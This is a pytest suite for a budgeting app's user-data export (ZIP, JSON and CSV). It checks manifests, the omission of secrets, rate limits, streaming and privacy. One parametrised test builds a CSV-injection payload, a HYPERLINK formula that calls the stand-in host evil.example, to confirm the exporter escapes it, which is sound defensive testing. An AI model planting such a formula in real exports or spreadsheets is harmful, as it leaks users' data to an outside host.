"""The export of a user's data."""

import csv
import datetime
import gc
import hashlib
import io
import json
import zipfile
from decimal import Decimal

import boto3
import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.serializers import ListSerializer, Serializer

from expenses import services as expenses
from expenses.imports.profiles import save_rules
from expenses.imports.services import create_import
from expenses.models import Expense, History
from profiles import export
from profiles.serializers import ExportOutput
from reports.stored import StoredReport
from smartbudget.core import aws
from smartbudget.core.errors import ThrottledError
from smartbudget.core.files import report_key
from smartbudget.core.periods import period_of
from tests.accounts.factors.builders import with_passkey
from tests.builders import client_for, make_token, make_user, token_of
from tests.calls import counted
from tests.cast import statement
from tests.expenses.imports.builders import make_profile
from tests.expenses.receipts.pictures import PDF
from tests.money_builders import (
    NOON,
    TODAY,
    make_budget,
    make_budget_last_month,
    make_expense,
)
from tests.notifications import faults

BUCKET = "smart-budget-receipts"


@pytest.fixture
def alice(aws):
    with time_machine.travel(NOON, tick=True):
        yield make_user("alice", large_expense_threshold="500")


def s3():
    return boto3.client("s3")


def march_report(user):
    return report_key(user.user_id, "monthly", period_of("monthly", TODAY), NOON)


def opened(chunks):
    return zipfile.ZipFile(io.BytesIO(b"".join(chunks)))


def exported(user):
    archive = opened(export.zip_chunks(user))
    assert archive.testzip() is None
    assert_as_listed(archive)
    return archive


def assert_as_listed(archive):
    """Compare each file with the manifest, which is last and lists all others."""
    files = read(archive, "manifest.json")["files"]
    assert [*(file["path"] for file in files), "manifest.json"] == archive.namelist()
    for file in files:
        content = archive.read(file["path"])
        assert file["size_bytes"] == len(content)
        assert file["sha256"] == hashlib.sha256(content).hexdigest()
        if "items" in file:
            assert file["items"] == len(json.loads(content))


def read(archive, name):
    return json.loads(archive.read(name))


def table(archive):
    text = archive.read("expenses.csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def attach(client, expense):
    file = SimpleUploadedFile("a.pdf", PDF, "application/pdf")
    answer = client.post(
        "/api/receipts/upload", {"file": file, "expense_id": expense.expense_id}
    )
    return answer.json()["receipt_url"]


def test_the_zip_contains_what_the_api_lists(alice):
    client = client_for(alice)
    make_budget(alice, amount="5.00")
    make_budget(alice, category=None, categories=["Food", "Rent"])
    trip = {"start": "2026-03-01", "end": "2026-03-09"}
    make_budget(alice, category=None, categories="all", period="once", **trip)
    attach(client, make_expense(alice, amount="1234567.80", description="Zoë 🎈\nx"))
    make_expense(alice, amount="600", date="2025-01-31", status="void")

    archive = exported(alice)

    def listed(path):
        return client.get(path).json()["results"]

    assert read(archive, "expenses.json") == [
        {**expense, "source_text": None} for expense in listed("/api/expenses")
    ]
    assert len(read(archive, "expenses.json")) == 2
    # Of today, so not exported.
    now = {"carried_over", "limit", "spent", "remaining", "level"}
    assert read(archive, "budgets.json") == [
        {name: value for name, value in budget.items() if name not in now}
        | ({} if budget["period"] == "once" else {"start": None, "end": None})
        for budget in listed("/api/budgets")
    ]
    assert read(archive, "notifications.json") == listed("/api/notifications")
    assert len(read(archive, "notifications.json")) == 2
    profile = read(archive, "profile.json")
    assert profile.pop("subscription_status") == "none"
    assert profile == client.get("/api/profile").json()


def test_api_tokens_are_exported_without_secrets_and_ids(alice):
    secret = make_token(alice, "read", name="Backup")
    (listed,) = client_for(alice).get("/api/tokens").json()

    archive = exported(alice)

    stored = read(archive, "tokens.json")
    assert stored == [{k: v for k, v in listed.items() if k != "token_id"}]
    for hidden in (secret, listed["token_id"]):
        assert hidden not in archive.read("tokens.json").decode()


def test_the_export_contains_no_secrets(alice):
    session = client_for(alice).cookies["session"].value

    text = exported(alice).read("profile.json").decode()

    assert "argon2" not in text
    assert session not in text
    assert "session" not in text


def test_the_csv_is_exact_and_names_the_receipts(alice):
    key = attach(client_for(alice), make_expense(alice, amount="999999999999.99"))

    archive = exported(alice)

    (row,) = table(archive)
    assert (row["amount"], row["currency"]) == ("999999999999.99", "USD")
    assert row["date"] == "2026-03-18"
    assert row["receipt"] == "receipts/" + key.rpartition("/")[2]
    assert archive.read(row["receipt"]) == PDF


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d"])
def test_no_text_is_a_formula_in_the_csv(alice, sign):
    attack = f'{sign}HYPERLINK("http://evil.example/?"&A1,"x")'
    make_expense(alice, category=attack[:50], description=attack)

    archive = exported(alice)

    (row,) = table(archive)
    assert row["description"] == f"'{attack}"
    assert row["category"] == f"'{attack[:50]}"
    assert read(archive, "expenses.json")[0]["description"] == attack


def test_reports_are_included_and_missing_files_are_named(alice):
    client = client_for(alice)
    receipt = attach(client, make_expense(alice))
    lost = attach(client, make_expense(alice))
    s3().delete_object(Bucket=BUCKET, Key=lost)
    report = StoredReport(
        report_key(alice.user_id, "monthly", period_of("monthly", TODAY), NOON), 0
    )
    s3().put_object(Bucket=BUCKET, Key=report.report_key, Body=b"a report")

    archive = exported(alice)

    names = set(archive.namelist())
    assert f"receipts/{receipt.rpartition('/')[2]}" in names
    assert f"receipts/{lost.rpartition('/')[2]}" not in names
    assert archive.read(f"reports/{report.file_name}") == b"a report"
    assert lost.rpartition("/")[2] in archive.read("missing.txt").decode()
    missing = read(archive, "manifest.json")["missing"]
    assert missing == [f"receipts/{lost.rpartition('/')[2]}"]


def test_histories_are_exported_as_in_the_api(alice):
    client = client_for(alice)
    expense = make_expense(alice, amount="5")
    make_expense(alice)
    expenses.edit_expense(alice, expense.expense_id, amount="7.50")
    attach(client, expense)
    deleted = make_expense(alice)
    expenses.edit_expense(alice, deleted.expense_id, description="x")
    expenses.delete_expense(alice, deleted.expense_id)

    (history,) = read(exported(alice), "history.json")

    listed = client.get(f"/api/expenses/{expense.expense_id}/history").json()
    assert history == {"expense_id": expense.expense_id, "changes": listed["results"]}
    assert len(history["changes"]) == 3
    assert read_json(alice)["history"] == [history]


@pytest.mark.parametrize(("count", "calls"), [(0, 0), (1, 1), (100, 1), (101, 2)])
def test_histories_are_read_a_hundred_per_call(alice, count, calls):
    with Expense.batch_write() as batch:
        for number in range(120):
            day = TODAY - datetime.timedelta(days=number)
            expense = stored_expense(alice, f"{number:032x}", day)
            expense.version = 2 if number < count else 1
            batch.save(expense)
    with History.batch_write() as batch:
        for number in range(count):
            batch.save(History(History.id_of(f"{number:032x}")))

    with counted() as aws_calls:
        archive = exported(alice)

    assert aws_calls.names.count("dynamodb.BatchGetItem") == calls
    assert len(read(archive, "history.json")) == count


def test_unprocessed_histories_are_requested_again(alice):
    ids = [make_expense(alice, amount="5").expense_id for _ in range(3)]
    for expense_id in ids:
        expenses.edit_expense(alice, expense_id, amount="6")
    withheld = []

    def answer_one(request, operation):
        request_items = json.loads(request.body)["RequestItems"]["expenses"]
        withheld.append(len(request_items["Keys"]))
        first, *others = request_items["Keys"]
        answer = {"Responses": {"expenses": [first]}, "UnprocessedKeys": {}}
        if others:
            answer["UnprocessedKeys"] = {"expenses": {"Keys": others}}
        return faults.answer(request, 200, json.dumps(answer))

    with faults.hooked("BatchGetItem", answer_one):
        archive = opened(export.zip_chunks(alice))

    assert withheld == [3, 2, 1]
    histories = read(archive, "history.json")
    assert {history["expense_id"] for history in histories} == set(ids)


def read_json(user):
    return json.loads(b"".join(export.json_chunks(user)))


def test_the_json_has_the_content_of_the_zip(alice):
    make_token(alice)
    make_budget_last_month(alice, amount="5.00", rollover={"mode": "both"})
    attach(client_for(alice), make_expense(alice, amount="600"))
    expenses.delete_expense(alice, make_expense(alice).expense_id)
    create_import(alice, statement().read(), "bank.csv")
    make_profile(alice)
    save_rules(alice, [{"text": "kiosk", "category": "Fun"}])
    report = StoredReport(
        report_key(alice.user_id, "monthly", period_of("monthly", TODAY), NOON), 0
    )
    s3().put_object(Bucket=BUCKET, Key=report.report_key, Body=b"a report")

    document = read_json(alice)

    archive = exported(alice)
    assert list(document) == [
        "made_at",
        "profile",
        "second_factors",
        "logins",
        "tokens",
        "budgets",
        "budget_periods",
        "imports",
        "import_profiles",
        "import_rules",
        "notifications",
        "expenses",
        "history",
        "trash",
        "reports",
    ]
    for title in list(document)[1:-1]:
        assert document[title] == read(archive, f"{title}.json")
        assert document[title]
    assert document["reports"] == [
        {
            "file_name": report.file_name,
            "report_type": "monthly",
            "created_at": report.created_at,
            "size_bytes": len(b"a report"),
        }
    ]


def test_the_json_matches_its_schema(alice):
    """The schema describes exactly the fields that are sent."""
    make_token(alice)
    with_passkey(alice)
    make_budget_last_month(alice, amount="5.00", rollover={"mode": "both"})
    parts = [{"category": name, "amount": "5"} for name in ("Food", "Fun")]
    expense = make_expense(alice, category=None, parts=parts)
    expenses.edit_expense(alice, expense.expense_id, amount="6", rescale=True)
    report = march_report(alice)
    s3().put_object(Bucket=BUCKET, Key=report, Body=b"a report")
    deleted = make_expense(alice, category=None, amount="10", parts=parts)
    expenses.delete_expense(alice, deleted.expense_id)
    create_import(alice, statement().read(), "bank.csv")
    make_profile(alice)
    save_rules(alice, [{"text": "kiosk", "category": "Fun"}])

    assert_described(read_json(alice), ExportOutput())


def assert_described(value, serializer):
    assert set(value) == set(serializer.fields)
    for name, field in serializer.fields.items():
        if isinstance(field, ListSerializer):
            assert value[name], f"{name} has nothing to look at"
            assert_described(value[name][0], field.child)
        elif isinstance(field, Serializer) and value[name] is not None:
            assert_described(value[name], field)


def test_finished_periods_of_budgets_are_exported_as_the_api_lists_them(alice):
    budget = make_budget_last_month(alice, amount="5.00")
    make_expense(alice)

    (period,) = read_json(alice)["budget_periods"]

    assert period.pop("budget_id") == budget.budget_id
    path = f"/api/budgets/{budget.budget_id}/periods"
    assert client_for(alice).get(path).json()["results"] == [period]


def test_an_empty_account_exports_complete_json(alice):
    document = read_json(alice)

    assert document["profile"]["username"] == "alice"
    assert [document[name] for name in ("budgets", "expenses", "history")] == [[]] * 3


def rows_of(answer):
    text = b"".join(answer).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_csv_can_be_limited_to_a_date_range(alice):
    for day in ("2026-01-31", "2026-02-01", "2026-02-28", "2026-03-01"):
        make_expense(alice, date=day, description="=1+1")

    first, last = datetime.date(2026, 2, 1), datetime.date(2026, 2, 28)
    rows = rows_of(export.csv_chunks(alice, start=first, end=last))

    assert [row["date"] for row in rows] == ["2026-02-28", "2026-02-01"]
    assert {row["description"] for row in rows} == {"'=1+1"}
    assert len(rows_of(export.csv_chunks(alice, start=last))) == 2
    assert len(rows_of(export.csv_chunks(alice, end=first))) == 2
    assert rows_of(export.csv_chunks(alice)) == table(exported(alice))


@pytest.mark.parametrize("begin", [export.json_chunks, export.csv_chunks])
def test_many_expenses_are_streamed_as_they_are_read(alice, begin):
    with Expense.batch_write() as batch:
        for number in range(1001):
            batch.save(stored_expense(alice, f"{number:032x}", TODAY))
    gc.collect()
    before = expenses_alive()

    most, sizes = 0, []
    for chunk in begin(alice):
        sizes.append(len(chunk))
        most = max(most, expenses_alive() - before)

    assert most <= 500  # a page
    assert max(sizes) < 100_000
    assert len(sizes) > 1


@pytest.mark.parametrize("begin", [export.json_chunks, export.csv_chunks])
def test_an_aborted_json_or_csv_export_leaves_nothing_open(alice, begin):
    with Expense.batch_write() as batch:
        for number in range(601):
            batch.save(stored_expense(alice, f"{number:032x}", TODAY))
    chunks = begin(alice)
    next(chunks)

    chunks.close()
    gc.collect()


@pytest.mark.parametrize(
    ("path", "kind", "name"),
    [
        ("/api/export.json", "application/json", "json"),
        ("/api/export/expenses.csv", "text/csv; charset=utf-8", "csv"),
    ],
)
@pytest.mark.parametrize("accept", ["*/*", "text/csv", "application/json", "image/png"])
def test_each_url_has_one_format_whatever_is_accepted(alice, path, kind, name, accept):
    make_expense(alice)

    answer = client_for(alice).get(path, headers={"Accept": accept})

    assert answer.status_code == 200
    assert answer.streaming
    assert answer.headers["Content-Type"] == kind
    assert answer.headers["Content-Disposition"] == (
        f'attachment; filename="smart-budget-alice-2026-03-18.{name}"'
    )
    assert b"Groceries" in b"".join(answer.streaming_content)


def test_json_and_csv_are_private_and_share_the_limit(alice):
    bob = make_user("bob")
    make_expense(bob, description="Bob's")
    client = client_for(alice)
    paths = ["/api/export.json", "/api/export/expenses.csv"]

    for path in paths:
        assert client_for().get(path).status_code == 401
        assert b"Bob" not in b"".join(client.get(path).streaming_content)
    for _ in range(3):
        export.csv_chunks(alice)
    for path in [*paths, "/api/export"]:
        refused = client.get(path)
        assert refused.status_code == 429
        assert 60 < refused.json()["retry_after"] <= 3600
        assert (
            refused.json()["detail"]
            == "You can download your data up to five times an hour."
        )
        assert (
            "Retry-After" not in refused.headers
        )  # a client that waits that long would hang
        assert '"export";q=5;w=3600' in refused.headers["RateLimit-Policy"]


def test_the_page_says_when_the_next_download_is_possible(alice):
    for _ in range(5):
        export.csv_chunks(alice)

    refused = client_for(alice).post("/accounts/export")

    assert refused.status_code == 429
    assert (
        "You can download your data up to five times an hour."
        in refused.content.decode()
    )
    assert "Try again in 60 minutes." in refused.content.decode()


def test_each_download_reports_the_limit(alice):
    answer = client_for(alice).get("/api/export/expenses.csv")

    policies = answer.headers["RateLimit-Policy"].split(", ")
    assert policies[0].startswith('"default";q=')
    assert policies[1:] == ['"export";q=5;w=3600']


@pytest.mark.parametrize(
    "query", ["start=tomorrow", "start=2026-02-02&end=2026-02-01", "category=Fun"]
)
def test_invalid_csv_filters_are_rejected_and_not_counted(alice, query):
    client = client_for(alice)

    for _ in range(6):
        answer = client.get(f"/api/export/expenses.csv?{query}")
        assert answer.status_code == 400
        assert answer.headers["Content-Type"].startswith("application/")
    assert client.get("/api/export").status_code == 200


def test_an_empty_account_exports_a_complete_zip(alice):
    archive = exported(alice)

    assert sorted(archive.namelist()) == [
        "budget_periods.json",
        "budgets.json",
        "expenses.csv",
        "expenses.json",
        "history.json",
        "import_profiles.json",
        "import_rules.json",
        "imports.json",
        "logins.json",
        "manifest.json",
        "notifications.json",
        "profile.json",
        "second_factors.json",
        "tokens.json",
        "trash.json",
    ]
    assert read(archive, "expenses.json") == []
    assert table(archive) == []


def test_passkeys_are_exported_with_name_and_dates_only(alice):
    with_passkey(alice)

    [passkey] = read_json(alice)["second_factors"]["passkeys"]

    assert passkey.pop("created_at")
    assert passkey == {"name": "Phone", "last_used_at": None}


def test_other_users_data_is_not_exported(alice):
    bob = make_user("bob")
    attach(client_for(bob), make_expense(bob, description="Bob's"))
    report = march_report(bob)
    s3().put_object(Bucket=BUCKET, Key=report, Body=b"Bob's")

    archive = exported(alice)

    assert len(archive.namelist()) == 15
    assert all(b"Bob" not in archive.read(name) for name in archive.namelist())


def stored_expense(user, expense_id, day):
    return Expense(
        expense_id=expense_id,
        user_id=user.user_id,
        date=day.isoformat(),
        amount=Decimal("1.00"),
        category="Fun",
        category_key="fun",
        created_at="2026-01-01T00:00:00.000000+00:00",
        updated_at="2026-01-01T00:00:00.000000+00:00",
        version=1,
    )


def expenses_alive() -> int:
    return sum(type(obj).__name__ == "Expense" for obj in gc.get_objects())


def test_two_thousand_expenses_are_read_page_by_page_and_streamed(alice):
    with Expense.batch_write() as batch:
        for number in range(2001):
            day = TODAY - datetime.timedelta(days=number % 999)
            batch.save(stored_expense(alice, f"{number:032x}", day))
    aws.client("s3")
    gc.collect()
    before = expenses_alive()  # left by other tests

    with counted() as calls:
        chunks = []
        most = sent = 0
        for chunk in export.zip_chunks(alice):
            chunks.append(chunk)
            if len(calls.names) > sent:  # a page was read
                most, sent = max(most, expenses_alive() - before), len(calls.names)
            if len(chunks) == 1:
                assert "dynamodb.Query" not in calls.names  # started before it is read

    archive = opened(chunks)
    assert len(read(archive, "expenses.json")) == len(table(archive)) == 2001
    assert most <= 500  # a page
    assert max(map(len, chunks)) < 1_000_000
    assert calls.read_items == 2001
    assert sorted(calls.names) == sorted(
        [
            "dynamodb.GetItem",  # the account
            "dynamodb.UpdateItem",  # the throttle
            "dynamodb.GetItem",  # the history of logins
            "dynamodb.Query",  # budgets
            "dynamodb.Query",  # imports
            "dynamodb.GetItem",  # their bank accounts and rules
            "dynamodb.Query",  # notifications
            *["dynamodb.Query"] * 5,  # expenses, 500 a page
            *["dynamodb.Query"] * 2,  # the trash, and its files
            "s3.ListObjectsV2",
        ]
    )


def test_an_aborted_zip_leaves_nothing_open(alice):
    make_expense(alice)
    chunks = export.zip_chunks(alice)
    next(chunks)

    chunks.close()
    gc.collect()  # an open file would warn, and warnings are errors


def test_an_outage_in_the_middle_aborts_the_download(alice):
    make_expense(alice)
    chunks = export.zip_chunks(alice)
    sent_chunks = [next(chunks)]

    with faults.down("Query"), pytest.raises(Exception, match="connect"):
        sent_chunks.extend(chunks)

    with pytest.raises(zipfile.BadZipFile):
        opened(sent_chunks)


def test_at_most_five_exports_an_hour_are_allowed(alice):
    for _ in range(5):
        export.zip_chunks(alice)

    with pytest.raises(ThrottledError):
        export.zip_chunks(alice)


@pytest.mark.parametrize(
    ("method", "path"), [("get", "/api/export"), ("post", "/accounts/export")]
)
def test_page_and_api_send_a_dated_zip(alice, method, path):
    make_expense(alice)
    client = client_for(alice, csrf=True)
    headers = {**token_of(client), "Accept-Encoding": "gzip"}

    answer = getattr(client, method)(path, headers=headers)

    assert answer.status_code == 200
    assert answer.streaming
    assert answer.headers["Content-Type"] == "application/zip"
    disposition = 'attachment; filename="smart-budget-alice-2026-03-18.zip"'
    assert answer.headers["Content-Disposition"] == disposition
    assert answer.headers["Cache-Control"] == "no-store"
    assert len(table(opened(answer.streaming_content))) == 1


def test_too_many_exports_are_rejected_by_page_and_api(alice):
    for _ in range(5):
        export.zip_chunks(alice)
    client = client_for(alice)

    assert client.get("/api/export").status_code == 429
    page = client.post("/accounts/export")
    assert page.status_code == 429
    assert "Too many attempts" in page.content.decode()
    assert "Download your data" in client.get("/accounts/export").content.decode()
    assert client_for().get("/api/export").status_code == 401
